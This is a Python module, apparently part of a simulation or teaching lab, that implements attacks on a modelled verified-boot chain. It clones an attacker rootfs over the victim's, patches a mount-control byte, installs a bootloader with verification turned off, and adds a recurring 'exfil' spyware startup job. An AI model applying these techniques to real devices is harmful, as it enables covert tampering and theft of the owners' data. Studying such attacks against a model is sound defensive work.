"""Two physical-access attacks against the verified-boot chain.

Both assume the attacker can read and write raw partitions of the
victim's disk but knows no passwords. The overwrite attack clones a
self-consistent attacker rootfs and bootloader over the victim's,
destroying the victim's user set. The hexpatch attack flips the single
mount-control byte and swaps in a bootloader that skips verification,
leaving every other victim byte in place.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from enum import Enum

from .bootchain import (
    BOOT_PARTITION,
    BootConfig,
    BootSuccess,
    boot,
    parse_boot_config,
    render_boot_config,
)
from .errors import (
    AlreadyPatched,
    BadReplacement,
    BootConfigError,
    InconsistentAttackerImage,
)
from .image import DiskImage, bitwise_copy_partition
from .rootfs import (
    CONTROL_BYTE_OFFSET,
    CONTROL_ENFORCED,
    CONTROL_OPEN,
    ROOTFS_PARTITION,
    MountMode,
    StartupJob,
    install_startup_job,
    mount_rootfs,
)


class Exploit(Enum):
    OVERWRITE = "overwrite"
    HEXPATCH = "hexpatch"


@dataclass(frozen=True)
class AttackReport:
    exploit: Exploit
    bytes_written: int
    victim_users_preserved: bool
    duration_seconds: float


def attack_overwrite(victim: DiskImage, attacker: DiskImage) -> AttackReport:
    """Copy the attacker's rootfs and bootloader bit-for-bit onto the victim.

    The attacker image must boot on its own first: its pinned roothash has
    to match its rootfs, otherwise the clone would just trade one recovery
    screen for another.
    """
    outcome = boot(attacker)
    if not isinstance(outcome, BootSuccess):
        raise InconsistentAttackerImage(
            f"attacker image does not boot: {outcome.reason.value}")
    start = time.perf_counter()
    bitwise_copy_partition(attacker, victim, ROOTFS_PARTITION)
    bitwise_copy_partition(attacker, victim, BOOT_PARTITION)
    written = (victim.entry(ROOTFS_PARTITION).byte_length
               + victim.entry(BOOT_PARTITION).byte_length)
    return AttackReport(Exploit.OVERWRITE, written, victim_users_preserved=False,
                        duration_seconds=time.perf_counter() - start)


def make_permissive_bootloader(img: DiskImage, cmdline: str = "console=tty1") -> bytes:
    """Render a verify=0 config NUL-padded to the image's partition-12 size."""
    raw = render_boot_config(BootConfig(cmdline=cmdline, verify=False))
    size = img.entry(BOOT_PARTITION).byte_length
    if len(raw) > size:
        raise BadReplacement(f"config needs {len(raw)} bytes, partition holds {size}")
    return raw + b"\x00" * (size - len(raw))


def attack_hexpatch(victim: DiskImage, replacement_bootloader: bytes) -> AttackReport:
    """Flip the mount-control byte and install a non-verifying bootloader.

    Exactly one rootfs byte changes (0x467: 0xFF -> 0x00), so the victim's
    users, jobs, and files all survive. The replacement must already be a
    well-formed verify=0 config of exactly partition-12 size; this function
    never pads or repairs it.
    """
    rootfs_bytes = victim.read_partition(ROOTFS_PARTITION)
    if rootfs_bytes[CONTROL_BYTE_OFFSET] != CONTROL_ENFORCED:
        raise AlreadyPatched(
            f"control byte is {rootfs_bytes[CONTROL_BYTE_OFFSET]:#04x}, expected 0xff")
    p12_len = victim.entry(BOOT_PARTITION).byte_length
    if len(replacement_bootloader) != p12_len:
        raise BadReplacement(
            f"replacement is {len(replacement_bootloader)} bytes, partition holds {p12_len}")
    try:
        config = parse_boot_config(replacement_bootloader)
    except BootConfigError as exc:
        raise BadReplacement(f"replacement does not parse: {exc}") from None
    if config.verify:
        raise BadReplacement("replacement bootloader still has verify=1")

    start = time.perf_counter()
    victim.write_byte(ROOTFS_PARTITION, CONTROL_BYTE_OFFSET, CONTROL_OPEN)
    victim.write_partition(BOOT_PARTITION, replacement_bootloader)
    return AttackReport(Exploit.HEXPATCH, 1 + p12_len, victim_users_preserved=True,
                        duration_seconds=time.perf_counter() - start)


def install_spyware(img: DiskImage, path: str, dest: str,
                    every_minutes: int = 1) -> StartupJob:
    """Mount the (patched) rootfs and add an exfiltration startup job.

    Works only after the mount-control byte is open; on a pristine image
    the mount itself is refused. The pinned roothash is deliberately left
    stale: a verifying bootloader would now panic, which is exactly the
    trade the hexpatch attack removes.
    """
    if any(c.isspace() for c in path) or any(c.isspace() for c in dest):
        raise ValueError("path and destination must not contain whitespace")
    handle = mount_rootfs(img, MountMode.READ_WRITE)
    try:
        job = StartupJob(every_minutes, f"exfil {path} {dest}")
        install_startup_job(handle, job)
    finally:
        handle.close()
    return job
